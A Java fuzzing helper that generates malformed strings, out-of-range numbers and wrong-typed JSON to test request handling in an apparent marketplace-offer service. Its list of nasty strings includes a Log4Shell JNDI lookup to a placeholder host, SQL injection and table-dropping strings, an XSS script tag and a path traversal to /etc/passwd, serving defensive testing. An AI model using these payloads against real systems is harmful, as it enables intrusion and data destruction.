package io.offerdesk.support.fuzz;

import java.math.BigDecimal;
import java.math.BigInteger;
import java.util.List;
import java.util.Random;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.JsonNodeFactory;

/**
 * The malformed and boundary values the fuzzer puts where a request expects a good one, as jqwik arbitraries drawn
 * from the fuzzer's seeded {@link Random} (so a seed replays a run): strings that break encodings and parsers, numbers
 * at and past every bound, dates that do not exist, ids of the wrong shape, and JSON of the wrong type.
 */
public final class BadValues {

    static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    static final int GEN_SIZE = 1000;

    /** Strings chosen for what they break: NUL, lone surrogates, direction and zero-width marks, injections, bounds. */
    static final List<String> NASTY_STRINGS = List.of(
            "",
            " ",
            "\u0000",
            "a\u0000b",
            "\ud800",
            "\udfff",
            "x\udc00\ud800y",
            "\u202eevil\u202c",
            "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
            "\u200b",
            "\u200d\ufeff\u2060",
            "\ud83d\ude00\ud83c\udff3\ufe0f\u200d\ud83c\udf08",
            "\uff41\uff42\uff43",
            "\u0130\u0131\u00df",
            "\r\n",
            "\t\u000b\f",
            "%00",
            "%s%n%x",
            "${jndi:ldap://fuzz.invalid/x}",
            "' OR '1'='1",
            "\"; drop table x; --",
            "<script>alert(1)</script>",
            "../../../../etc/passwd",
            "null",
            "true",
            "-1",
            "1e309",
            "NaN",
            "-Infinity",
            "99999999999999999999999999999999999999",
            "-9223372036854775809",
            "0x7fffffff",
            "2026-02-30",
            "2026-13-01",
            "0000-00-00",
            "2026-11-27T25:61:61Z",
            "+999999999-12-31",
            "-000001-01-01",
            "1970-01-01T00:00:00Z",
            "yesterday",
            "00000000-0000-0000-0000-000000000000",
            "ffffffff-ffff-ffff-ffff-fffffffffffff",
            "not-a-uuid",
            "prod-",
            "offer-AAAAAAAAAAAAA",
            "agmt-" + "z".repeat(25),
            "000000000000",
            "1234567890123",
            "arn:aws:aws-marketplace:us-east-1:000000000000:AWSMarketplace/Offer/offer-x",
            "USD\u0000",
            "XXX",
            "usd",
            "P-1D",
            "PT99999999999999999H");

    private BadValues() {}

    /** Any bad string: a nasty one, random UTF-16 (surrogates and controls included), or a huge one. */
    public static Arbitrary<String> strings() {
        return Arbitraries.frequencyOf(
                weighted(6, Arbitraries.of(NASTY_STRINGS)),
                weighted(
                        3,
                        Arbitraries.strings().withCharRange('\u0000', '\uffff').ofMaxLength(40)),
                weighted(1, huge()));
    }

    /** A string of 10,000 to 300,000 characters, ASCII or not. */
    static Arbitrary<String> huge() {
        var units = List.of("x", "\u00e9", "\ud83d\ude00", "\u202e", "\u0000", "9");
        return Arbitraries.integers().between(10_000, 300_000).map(length -> {
            var unit = units.get(length % units.size());
            return unit.repeat(length / unit.length());
        });
    }

    /** Numbers past every bound a field may have: negative, zero, overflowing int and long, too precise, huge. */
    public static Arbitrary<JsonNode> numbers() {
        return Arbitraries.frequencyOf(
                weighted(
                        4,
                        Arbitraries.of(
                                NODES.numberNode(-1),
                                NODES.numberNode(0),
                                NODES.numberNode(Integer.MAX_VALUE),
                                NODES.numberNode(Integer.MIN_VALUE),
                                NODES.numberNode(Long.MAX_VALUE),
                                NODES.numberNode(Long.MIN_VALUE),
                                NODES.numberNode(new BigInteger("9223372036854775808")),
                                NODES.numberNode(new BigInteger("-99999999999999999999999999999999")),
                                NODES.numberNode(new BigDecimal("1e400")),
                                NODES.numberNode(new BigDecimal("-1e-400")),
                                NODES.numberNode(new BigDecimal("0.000000000000000000001")),
                                NODES.numberNode(new BigDecimal("123.4567890123456789")),
                                NODES.numberNode(new BigDecimal("-0.5")))),
                weighted(1, Arbitraries.longs().map(NODES::numberNode)),
                weighted(
                        1,
                        Arbitraries.bigDecimals()
                                .between(new BigDecimal("-1e20"), new BigDecimal("1e20"))
                                .ofScale(12)
                                .map(NODES::numberNode)));
    }

    /** A JSON value of any type, for a field that expects another: the wrong type, null, or deep nesting. */
    public static Arbitrary<JsonNode> wrongTypes() {
        return Arbitraries.frequencyOf(
                weighted(2, strings().map(s -> (JsonNode) NODES.stringNode(s))),
                weighted(2, numbers()),
                weighted(1, Arbitraries.of(true, false).map(b -> (JsonNode) NODES.booleanNode(b))),
                weighted(2, Arbitraries.just((JsonNode) NODES.nullNode())),
                weighted(1, Arbitraries.just((JsonNode) NODES.arrayNode())),
                weighted(1, Arbitraries.just((JsonNode) NODES.objectNode())),
                weighted(1, Arbitraries.integers().between(2, 300).map(BadValues::nested)));
    }

    private static JsonNode nested(int depth) {
        JsonNode node = NODES.stringNode("deep");
        for (int i = 0; i < depth; i++) {
            node = i % 2 == 0 ? NODES.arrayNode().add(node) : NODES.objectNode().set("d", node);
        }
        return node;
    }

    /** One value of the arbitrary, drawn from the fuzzer's random. */
    public static <T> T draw(Arbitrary<T> arbitrary, Random random) {
        return arbitrary.generator(GEN_SIZE).next(random).value();
    }

    private static <T> net.jqwik.api.Tuple.Tuple2<Integer, Arbitrary<? extends T>> weighted(
            int weight, Arbitrary<? extends T> arbitrary) {
        return net.jqwik.api.Tuple.of(weight, arbitrary);
    }
}
